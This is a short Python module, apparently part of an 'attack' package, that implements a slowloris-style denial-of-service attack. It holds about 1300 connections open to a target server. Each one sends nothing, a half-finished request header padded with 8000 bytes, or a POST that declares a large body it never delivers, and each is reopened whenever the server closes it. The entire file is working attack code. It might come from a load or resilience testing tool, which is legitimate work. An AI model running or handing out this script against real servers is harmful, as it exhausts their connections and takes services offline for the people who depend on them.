"""As many connections as there is room for that say nothing, or half a request, and are opened again when closed."""

from __future__ import annotations

from attack.target import Target, forever

_CONNECTIONS = 1300


async def attack(target: Target) -> None:
    """Until cancelled."""
    opened = 0

    async def hold() -> None:
        nonlocal opened
        opened += 1
        reader, writer = await target.open(opened)
        writer.write((b"", b"GET / HTTP/1.1\r\nHost: x\r\na: " + b"x" * 8000, _BODY)[opened % 3])
        await reader.read()  # until the server has had enough
        writer.close()

    await forever(*[hold] * _CONNECTIONS)


_BODY = b"POST /api/tables HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{"
